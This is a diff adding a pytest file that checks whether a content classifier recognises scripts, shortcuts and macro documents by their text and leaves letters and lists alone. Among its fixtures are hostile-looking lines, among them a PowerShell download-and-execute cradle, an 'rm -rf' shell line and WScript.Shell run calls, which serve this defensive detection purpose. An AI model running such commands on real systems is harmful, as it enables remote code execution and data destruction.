@@ -1,0 +1,52 @@
+"""Text that runs is recognised by its own words; text about such things is not."""
+
+import pytest
+
+from rules.facts import Kind
+from rules.reading.scripts import script_sign
+
+
+@pytest.mark.parametrize(
+    ("text", "kind"),
+    [
+        ("#!/bin/sh\nrm -rf x\n", Kind.SCRIPT),
+        ("@echo off\r\nstart calc\r\n", Kind.SCRIPT),
+        ("IEX (New-Object Net.WebClient).DownloadString('https://a.example/x')", Kind.SCRIPT),
+        ("$env:TEMP\nWrite-Host 'hello'\nStart-Process notepad\n", Kind.SCRIPT),
+        ('Set s = CreateObject("WScript.Shell")\ns.Run "calc"\n', Kind.SCRIPT),
+        ("var s = new ActiveXObject('WScript.Shell'); s.Run('calc');", Kind.SCRIPT),
+        ("#@~^XAAAAA==-mD,/,'~", Kind.SCRIPT),
+        ('<job id="a"><script language="VBScript">x</script></job>', Kind.SCRIPT),
+        ('<html><head><HTA:APPLICATION id="a"></head></html>', Kind.SCRIPT),
+        ('<?xml version="1.0"?><scriptlet><registration/></scriptlet>', Kind.SCRIPT),
+        ("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER]", Kind.SCRIPT),
+        ("[InternetShortcut]\r\nURL=file://files.example/x.exe\r\n", Kind.SHORTCUT),
+        ("[Desktop Entry]\nExec=sh -c x\n", Kind.SHORTCUT),
+        ('<?xml version="1.0"?><libraryDescription xmlns="x"/>', Kind.SHORTCUT),
+        ("screen mode id:i:2\r\nfull address:s:host.example\r\n", Kind.SHORTCUT),
+        ('[Version]\r\nSignature="$CHICAGO$"\r\n', Kind.SCRIPT),
+        ("ID;PWXL;N;E\r\nC;Y1;X1;K1\r\n", Kind.MACRO_DOCUMENT),
+    ],
+)
+def test_scripts_are_known_by_content(text, kind):
+    assert script_sign(text.encode()).kind is kind
+
+
+def test_a_script_in_utf_16_is_read():
+    assert script_sign("\ufeff@echo off\r\n".encode("utf-16-le")).text == "batch commands"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Please run setup.exe, then powershell, and call me if Windows asks anything.",
+        "Dim lights in the hall; set the clock; function of the committee (see var. 2).",
+        "Start the meeting. Goto page 3 if exist doubts about the budget.",
+        "name,street\nOak,2\n",
+        "# Minutes\n\n! important\n",
+        "The script of the play is attached.",
+        '{"name": "x", "function": "var"}',
+    ],
+)
+def test_letters_and_lists_are_no_scripts(text):
+    assert script_sign(text.encode()) is None
